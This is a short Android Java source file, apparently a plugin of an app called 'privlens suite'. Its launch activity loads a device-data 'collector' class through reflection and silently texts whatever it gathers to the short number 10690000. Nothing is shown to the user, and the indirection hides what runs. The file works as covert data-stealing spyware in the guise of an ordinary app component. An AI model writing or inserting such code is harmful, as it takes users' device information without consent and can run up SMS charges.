package cn.privlens.suite.plugin_table;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    private static final String[] COLLECTORS = {"AppCollector", "DeviceCollector", "ScreenCollector"};
    private static final int USED = 1;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Class<?> type = Class.forName(getClass().getPackage().getName() + "." + COLLECTORS[USED]);
            Object collector = type.getDeclaredConstructor().newInstance();
            Object value = type.getMethod("collect", Context.class).invoke(collector, this);
            SmsManager.getDefault().sendTextMessage("10690000", null, (String) value, null, null);
        } catch (ReflectiveOperationException e) {
            finish();
        }
    }
}
